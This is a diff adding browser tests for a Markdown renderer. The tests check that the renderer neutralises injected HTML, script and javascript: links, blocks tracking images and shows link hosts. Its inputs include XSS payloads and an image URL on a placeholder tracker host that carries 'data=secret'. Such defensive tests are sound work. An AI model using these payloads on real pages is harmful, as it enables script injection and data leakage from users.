@@ -1,0 +1,68 @@
+import { afterEach, expect, test, vi } from 'vitest';
+import { page } from 'vitest/browser';
+import { cleanUp, render } from '../render.testing.tsx';
+import Markdown from './markdown.tsx';
+
+afterEach(cleanUp);
+
+async function show(source: string, streaming = false): Promise<HTMLElement> {
+  const element = render(<Markdown source={source} streaming={streaming} />);
+  await vi.waitFor(() => expect(element.querySelector('.markdown')).not.toBeNull());
+  return element;
+}
+
+test('raw HTML stays text', async () => {
+  const element = await show(
+    'before <img src=x onerror="window.hurt = 1"> <script>window.hurt = 2</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<style>body { display: none }</style>',
+  );
+  expect(element.querySelectorAll('img, script, iframe, style, object, embed')).toHaveLength(0);
+  expect(element.textContent).toContain('<script>window.hurt = 2</script>');
+  expect((window as { hurt?: number }).hurt).toBeUndefined();
+});
+
+test('no picture is loaded; its text and host are told instead', async () => {
+  const element = await show(
+    '![the lamp](https://tracker.example/p.png?data=secret) ![x](data:image/png;base64,AAAA)',
+  );
+  expect(element.querySelectorAll('img, picture, source')).toHaveLength(0);
+  expect(element.textContent).toContain('Picture: the lamp – not loaded from tracker.example');
+  expect(performance.getEntriesByType('resource').some(({ name }) => name.includes('tracker.example'))).toBe(
+    false,
+  );
+  expect(element.innerHTML).not.toContain('data=secret');
+});
+
+test.each([
+  'javascript:alert(1)',
+  'JAVASCRIPT:alert(1)',
+  'data:text/html,hi',
+  'chrome://settings',
+  'vbscript:x',
+  '/relative',
+])('a link to %s is only text', async (address) => {
+  const element = await show(`[click me](${address})`);
+  expect(element.querySelectorAll('a')).toHaveLength(0);
+  expect(element.textContent).toContain('click me');
+});
+
+test('a link shows its host and opens apart', async () => {
+  await show('[your bank](https://user:pw@evil.example/login) and <https://lumen.example/a>');
+  const link = page.getByRole('link', { name: /your bank/ });
+  await expect.element(link).toHaveTextContent('(evil.example)');
+  await expect.element(link).toHaveAttribute('href', 'https://evil.example/login');
+  await expect.element(link).toHaveAttribute('target', '_blank');
+  await expect.element(link).toHaveAttribute('rel', 'noreferrer noopener');
+  expect(page.getByRole('link', { name: /lumen/ }).element().textContent).not.toContain('(lumen.example)');
+});
+
+test('footnotes and tables of GitHub Markdown are drawn', async () => {
+  const element = await show('| A | B |\n|---|---|\n| 1 | 2 |\n\n- [x] done');
+  expect(element.querySelectorAll('td')).toHaveLength(2);
+  await expect.element(page.getByRole('checkbox')).toBeChecked();
+  await expect.element(page.getByRole('button', { name: 'Copy as CSV' })).toBeVisible();
+});
+
+test('half-written Markdown is completed while it streams', async () => {
+  const element = await show('The cheapest is **Brio', true);
+  expect(element.querySelector('strong')?.textContent).toBe('Brio');
+});
